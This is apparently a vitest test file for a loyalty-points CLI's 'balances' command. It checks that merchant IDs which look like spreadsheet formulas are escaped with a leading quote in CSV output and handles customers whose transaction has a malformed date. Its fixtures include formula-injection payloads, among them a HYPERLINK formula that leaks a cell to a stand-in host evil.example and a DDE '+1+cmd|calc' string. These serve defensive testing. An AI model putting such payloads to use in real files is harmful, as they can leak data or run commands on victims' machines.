import { describe, expect, it } from 'vitest';
import type { ApiRecord } from '../../src/db/upsertRecords.js';
import { updateLedger } from '../../src/ledger/updateLedger.js';
import { upsert } from '../export/helpers.js';
import { runCli } from '../helpers/cli.js';
import { freshMirror } from '../helpers/tempDir.js';

function customer(id: number, merchantId: string, approved: number): ApiRecord {
  return {
    id, merchant_id: merchantId, email: `c${id}@example.com`, points_approved: approved, points_pending: 0, enrolled: true,
    enrolled_at: '2026-01-01T10:00:00.000Z', created_at: '2026-01-01T10:00:00.000Z', updated_at: '2026-01-01T10:00:00.000Z',
  };
}

function transaction(id: number, customerId: number, approved: number, createdAt: string): ApiRecord {
  return { id, customer: { id: customerId }, points_approved: approved, points_pending: 0, created_at: createdAt, resource: 'points_import' };
}

/** A mirror the sync's own upserter filled, its ledger built. */
function mirrorWith(customers: ApiRecord[], transactions: ApiRecord[]): string {
  const { db, path } = freshMirror();
  upsert(db, 'customers', customers, '2026-03-03T00:00:00.000Z');
  upsert(db, 'transactions', transactions, '2026-03-03T00:00:00.000Z');
  updateLedger(db, { timeZone: 'UTC', pointValue: null }, new Date('2026-03-03T12:00:00Z'));
  db.close();
  return path;
}

describe('balances on customers the API sent oddly', () => {
  it('prints a merchant_id a spreadsheet would run as a formula with a leading quote in CSV, and as sent in JSON', async () => {
    const hostile = ['=HYPERLINK("http://evil.example/?leak="&B2,"Click")', '+1+cmd|calc', '@SUM(1)', '-2+3', '\tTAB'];
    const path = mirrorWith(
      [...hostile.map((merchantId, i) => customer(i + 1, merchantId, i === 0 ? 100 : 0)), customer(9, 'plain-9', 0)],
      [transaction(10, 1, 100, '2026-03-01T10:00:00.000Z')],
    );
    const csv = await runCli(['balances', '--as-of', '2026-03-02'], { env: { LOYALTY_DB: path } });
    expect(csv.code, csv.stderr).toBe(0);
    const lines = csv.stdout.trimEnd().split('\n');
    expect(lines).toEqual([
      'customer_id,merchant_id,approved,pending,last_movement_day,in_customers',
      `1,"'=HYPERLINK(""http://evil.example/?leak=""&B2,""Click"")",100,0,2026-03-01,true`,
      `2,"'+1+cmd|calc",0,0,,true`,
      `3,"'@SUM(1)",0,0,,true`,
      `4,"'-2+3",0,0,,true`,
      `5,"'\tTAB",0,0,,true`,
      '9,plain-9,0,0,,true',
    ]);
    const json = await runCli(['balances', '--as-of', '2026-03-02', '--format', 'json'], { env: { LOYALTY_DB: path } });
    expect((JSON.parse(json.stdout) as { balances: Array<{ merchant_id: string }> }).balances.map((row) => row.merchant_id)).toEqual([...hostile, 'plain-9']);
  });

  it('lists a customer known only from a transaction without a day, with 0, as verify --ledger names them', async () => {
    const path = mirrorWith([customer(1, 'm1', 10)], [transaction(10, 1, 10, '2026-03-01T10:00:00.000Z'), transaction(11, 7, 25, 'not a date')]);
    const one = await runCli(['balances', '--as-of', '2026-03-02', '--customer', '7', '--format', 'json'], { env: { LOYALTY_DB: path } });
    expect(one.code, one.stderr).toBe(0);
    expect(JSON.parse(one.stdout)).toEqual({
      as_of: '2026-03-02',
      balances: [{ customer_id: 7, merchant_id: null, approved: 0, pending: 0, last_movement_day: null, in_customers: false }],
    });
    const all = await runCli(['balances', '--as-of', '2026-03-02'], { env: { LOYALTY_DB: path } });
    expect(all.stdout.trimEnd().split('\n').slice(1)).toEqual(['1,m1,10,0,2026-03-01,true', '7,,0,0,,false']);
    const verify = await runCli(['verify', '--ledger', '--json'], { env: { LOYALTY_DB: path } });
    expect((JSON.parse(verify.stdout) as { ledger: { defects: Array<{ customer_id: number }> } }).ledger.defects.map((d) => d.customer_id)).toEqual([7]);
  });
});
